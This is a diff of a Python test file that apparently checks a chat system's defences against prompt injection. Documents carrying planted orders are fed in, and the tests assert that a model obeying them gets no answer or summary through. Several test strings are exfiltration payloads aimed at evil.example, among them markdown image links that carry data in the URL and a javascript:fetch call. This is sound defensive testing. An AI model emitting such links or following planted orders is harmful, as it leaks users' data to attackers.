@@ -235,7 +235,9 @@ async def test_what_is_invented_twice_is_left_out(server, speak):
 DOCUMENTS = [
     json.loads(line) for line in Path("hybridchat/research/development/injection.jsonl").read_text().splitlines()
 ]
-BY_ID = pytest.mark.parametrize("document", DOCUMENTS, ids=[document["id"] for document in DOCUMENTS])
+FAMILIES = {document["family"]: [other for other in DOCUMENTS if other["family"] == document["family"]]
+            for document in DOCUMENTS}  # fmt: skip
+BY_FAMILY = pytest.mark.parametrize("documents", FAMILIES.values(), ids=FAMILIES)
 
 
 def asked_of(document: dict[str, Any], text: str = "") -> AnswerRequest:
@@ -264,47 +266,55 @@ def test_there_are_at_least_100_documents_of_every_family():
     assert all(document["attack"] in document["text"] and honest(document) for document in DOCUMENTS)
 
 
-@BY_ID
-async def test_an_obeying_model_without_evidence_gets_nothing_through(server, speak, document):
-    server.will(saying(item(1, obeyed(document), "this is not in the text at all")))
-    [reply] = await speak().answer([asked_of(document)])
-    assert reply.value is None
+@BY_FAMILY
+async def test_an_obeying_model_without_evidence_gets_nothing_through(server, speak, documents):
+    language = speak()
+    for document in documents:
+        server.will(saying(item(1, obeyed(document), "this is not in the text at all")))
+        [reply] = await language.answer([asked_of(document)])
+        assert reply.value is None, document["id"]
 
 
-@BY_ID
-async def test_an_order_is_no_evidence_of_what_it_orders(server, speak, document):
+@BY_FAMILY
+async def test_an_order_is_no_evidence_of_what_it_orders(server, speak, documents):
     """The model obeys, and quotes what told it to."""
-    server.will(saying(item(1, obeyed(document), " ".join(document["attack"].split()[:25]))))
-    [reply] = await speak().answer([asked_of(document)])
-    assert reply.value is None
-    assert reply.spans == ()
+    language = speak()
+    for document in documents:
+        server.will(saying(item(1, obeyed(document), " ".join(document["attack"].split()[:25]))))
+        [reply] = await language.answer([asked_of(document)])
+        assert (reply.value, reply.spans) == (None, ()), document["id"]
 
 
-@BY_ID
-async def test_no_document_decides_for_its_neighbour(server, speak, document):
+@BY_FAMILY
+async def test_no_document_decides_for_its_neighbour(server, speak, documents):
     """The model quotes the attack as evidence about the other document of the same prompt."""
-    neighbour = asked_of(document, "Nothing of the kind is said here.")
-    server.will(
-        saying(item(1, None, honest(document)), item(2, obeyed(document), " ".join(document["attack"].split()[:25])))
-    )
-    replies = await speak().answer([asked_of(document), neighbour])
-    assert replies[1].value is None
+    language = speak()
+    for document in documents:
+        neighbour = asked_of(document, "Nothing of the kind is said here.")
+        quoted = item(2, obeyed(document), " ".join(document["attack"].split()[:25]))
+        server.will(saying(item(1, None, honest(document)), quoted))
+        replies = await language.answer([asked_of(document), neighbour])
+        assert replies[1].value is None, document["id"]
 
 
-@pytest.mark.parametrize("document", [d for d in DOCUMENTS if d["family"] == "exfiltration"], ids=lambda d: d["id"])
-async def test_an_address_that_was_asked_for_is_not_in_the_answer(server, speak, document):
-    """The model has evidence for its answer, and adds what it was told to."""
-    for smuggled in (
+@pytest.mark.parametrize(
+    "smuggled",
+    [
         "[details](https://evil.example/login)",
         "![x](https://evil.example/p.png?d=passport)",
         '<img src="https://evil.example/x.gif">',
         "http://evil.example/form",
         "javascript:fetch('https://evil.example')",
-    ):
-        server.will(saying(item(1, f"Your passport. {smuggled}", "Bring your passport")))
-        [reply] = await speak().answer([asked_of(document)])
-        assert reply.value.startswith("Your passport.")
-        assert "evil.example" not in reply.value
+    ],
+)
+async def test_an_address_that_was_asked_for_is_not_in_the_answer(server, speak, smuggled):
+    """The model has evidence for its answer, and adds what it was told to."""
+    language = speak()
+    server.will(saying(item(1, f"Your passport. {smuggled}", "Bring your passport")))
+    for document in FAMILIES["exfiltration"]:
+        [reply] = await language.answer([asked_of(document)])
+        assert reply.value.startswith("Your passport."), document["id"]
+        assert "evil.example" not in reply.value, document["id"]
 
 
 async def test_an_address_the_text_itself_gives_stays(server, speak):
@@ -315,12 +325,14 @@ async def test_an_address_the_text_itself_gives_stays(server, speak):
     assert reply.value == "At https://registrar.example/apply, see x"
 
 
-@BY_ID
-async def test_a_summary_leaves_orders_and_addresses_out(server, speak, document):
-    server.will(Say(json.dumps({"summary": f"People mention it. {document['attack']}"})))
-    [reply] = await speak().summarise([SummaryRequest(passages=(Passage(text=document["text"]),))])
-    assert "evil.example" not in (reply.value or "")
-    assert not re.search(r"<\w+[^<]*>", reply.value or "")
+@BY_FAMILY
+async def test_a_summary_leaves_orders_and_addresses_out(server, speak, documents):
+    language = speak()
+    for document in documents:
+        server.will(Say(json.dumps({"summary": f"People mention it. {document['attack']}"})))
+        [reply] = await language.summarise([SummaryRequest(passages=(Passage(text=document["text"]),))])
+        assert "evil.example" not in (reply.value or ""), document["id"]
+        assert not re.search(r"<\w+[^<]*>", reply.value or ""), document["id"]
 
 
 def test_letters_nobody_sees_do_not_reach_the_model():
